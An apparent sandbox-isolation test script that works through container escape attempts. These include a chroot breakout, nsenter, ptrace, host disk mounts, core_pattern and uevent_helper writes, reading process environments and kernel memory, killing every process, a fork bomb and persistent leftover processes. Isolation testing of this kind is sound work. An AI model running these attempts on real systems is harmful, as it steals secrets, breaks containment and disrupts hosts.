"""A program that tries to get out of its pod. It prints whatever it could read; what it has changed is seen from outside.

Arguments: a file outside, the folder of all pods, the folder of its own image, the number of a process outside, a TCP port of
the host, another address of the host, the name of an abstract Unix socket, a word for the command lines of what it leaves.
"""
import ctypes
import errno
import glob
import os
import signal
import socket
import subprocess
import sys
import time

FILE, PODS, IMAGE, PROCESS, PORT, ADDRESS, ABSTRACT, WORD = sys.argv[1:9]
LIBC = ctypes.CDLL(None, use_errno=True)
MS_BIND, MS_REMOUNT, MS_REC = 4096, 32, 16384


def attempt(what, attack):
    try:
        result = attack()
    except BaseException as problem:
        result = "%s: %s" % (type(problem).__name__, problem)
    print("%s -> %s" % (what, result), flush=True)


def each(attack, items):
    """All of them, whatever becomes of the others."""
    results = []
    for item in items:
        try:
            results.append(attack(item))
        except BaseException as problem:
            results.append("%s: %s" % (type(problem).__name__, problem))
    return results


def read(path):
    with open(path, "rb") as source:
        return source.read(1 << 20)


def write(path):
    with open(path, "ab") as place:
        place.write(b"written by the pod\n")
    return "WRITTEN"


def shell(script):
    done = subprocess.run(["sh", "-c", script], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60)
    return done.stdout.decode(errors="replace")


def openable(path):
    """Opens for writing, and writes nothing: it might stop the machine."""
    os.close(os.open(path, os.O_WRONLY))
    return "OPENED FOR WRITING"


def exists(pid):
    return os.path.exists("/proc/%d" % pid)


def mount(source, target, kind, flags):
    if LIBC.mount(source.encode(), target.encode(), kind.encode() if kind else None, flags, None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "MOUNTED"


def leave_root():
    """The classic: a root within the root while a folder outside of it is open."""
    os.makedirs("/tmp/inner", exist_ok=True)
    child = os.fork()
    if child == 0:
        try:
            outside = os.open("/", os.O_RDONLY)
            os.chroot("/tmp/inner")
            os.fchdir(outside)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            print(read(FILE), flush=True)
        except BaseException as problem:
            print("  ", type(problem).__name__, problem, flush=True)
        os._exit(0)
    os.waitpid(child, 0)


def connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(5)
        sock.connect(address)
        return "CONNECTED"


def trace(pid):
    if LIBC.ptrace(16, pid, 0, 0) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.waitpid(pid, 0x40000000)
    LIBC.ptrace(17, pid, 0, 0)
    return "TRACED"


def bomb():
    children = []
    try:
        while len(children) < 5000:
            child = os.fork()
            if child == 0:
                signal.pause()
                os._exit(0)
            children.append(child)
        return "NOT STOPPED"
    except OSError as problem:
        return "stopped: %s" % errno.errorcode[problem.errno]
    finally:
        print("children: %d" % len(children), flush=True)
        for child in children:
            os.kill(child, signal.SIGKILL)
        for child in children:
            os.waitpid(child, 0)


# ---- what is not its own is read
attempt("file outside", lambda: read(FILE))
attempt("folder of pods", lambda: os.listdir(PODS))
attempt("home", lambda: each(os.listdir, [os.path.expanduser("~root"), "/home"]))
attempt("other roots", lambda: each(lambda root: read(root + FILE), glob.glob("/proc/*/root")))
attempt("other roots' pods", lambda: each(lambda root: os.listdir(root + PODS), glob.glob("/proc/*/root")))
attempt("variables", lambda: each(read, glob.glob("/proc/*/environ")))
attempt("command lines", lambda: each(read, glob.glob("/proc/*/cmdline")))
attempt("open files", lambda: each(os.readlink, glob.glob("/proc/*/fd/*")))
attempt("memory of the first process", lambda: read("/proc/1/mem"))
attempt("kernel's memory", lambda: read("/proc/kcore")[:10])
attempt("disks", lambda: each(lambda disk: mount(disk, "/tmp", "ext4", 0), glob.glob("/dev/[svx]d*") + ["/dev/vda"]))
attempt("device file", lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0)) or read("/tmp/disk"))

# ---- what is not its own is written
attempt("write outside", lambda: write(FILE))
attempt("write to the image", lambda: each(write, [IMAGE + "/app/kept", "/app/kept", "/usr/kept"]))
for place in ("/app", "/usr", "/proc/sys", "/sys", "/etc/ssl"):
    attempt("writable " + place, lambda: mount("none", place, None, MS_REMOUNT | MS_BIND))
    attempt("uncovered " + place, lambda: LIBC.umount2(place.encode(), 2) == 0 and "UNCOVERED")
attempt("write to the image again", lambda: each(write, ["/app/kept", "/usr/kept"]))
attempt("a namespace of its own", lambda: shell(
    "unshare -U -r -m sh -c 'mount -o remount,bind,rw /app; mount -o remount,bind,rw /usr; umount -l /app; umount -l /proc/sys;"
    " echo written by the pod > /app/kept; echo written by the pod > /usr/kept; mount -t proc proc /tmp;"
    " true >> /tmp/sys/kernel/core_pattern && echo OPENED FOR WRITING'"))
attempt("with processes and network of its own", lambda: shell(
    "unshare -U -r -m -p -n -f sh -c 'mount -t sysfs sysfs /tmp; true >> /tmp/kernel/uevent_helper && echo OPENED FOR WRITING;"
    " mount -t proc proc /proc; true >> /proc/sys/kernel/core_pattern && echo OPENED FOR WRITING'"))
attempt("kernel's settings", lambda: openable("/proc/sys/kernel/core_pattern"))
attempt("modules", lambda: openable("/proc/sys/kernel/modprobe"))
attempt("emergency keys", lambda: openable("/proc/sysrq-trigger"))
attempt("events", lambda: openable("/sys/kernel/uevent_helper"))
attempt("control groups", lambda: shell(
    "mkdir /tmp/groups; mount -t cgroup -o pids none /tmp/groups && echo max > /tmp/groups/pids.max;"
    " unshare -U -r -m -C sh -c 'mount -t cgroup -o pids none /tmp/groups && echo max > /tmp/groups/pids.max;"
    " mount -t cgroup2 none /tmp/groups && echo max > /tmp/groups/pids.max'"))

# ---- out of its root
attempt("chroot", leave_root)
attempt("nsenter", lambda: shell("nsenter -t 1 -m -n -p -- cat '%s'; nsenter -t 1 -U -m cat '%s'" % (FILE, FILE)))
attempt("parents", lambda: read("/.." * 64 + FILE))

# ---- processes outside
attempt("signal", lambda: os.kill(int(PROCESS), signal.SIGKILL))
attempt("signals", lambda: each(
    lambda pid: os.kill(pid, signal.SIGKILL), [pid for pid in range(1, 40000) if pid != os.getpid() and exists(pid)]))
attempt("trace", lambda: trace(int(PROCESS)))
attempt("trace the first", lambda: trace(1))


# ---- the network
for host in ("127.0.0.1", ADDRESS, "10.0.2.2", "172.17.0.1"):
    attempt("connect " + host, lambda: connect(socket.AF_INET, (host, int(PORT))))
attempt("connect to the world", lambda: connect(socket.AF_INET, ("1.1.1.1", 53)))
attempt("abstract socket", lambda: connect(socket.AF_UNIX, "\0" + ABSTRACT))
attempt("packets", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768).send(b"x" * 60))

# ---- many, and what stays
attempt("fork bomb", bomb)
for _ in range(3):
    subprocess.Popen(
        ["setsid", "sh", "-c", "trap '' TERM HUP INT; while :; do sleep 1; done", WORD],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        env={}, start_new_session=True)
time.sleep(0.1)
print("DONE", flush=True)
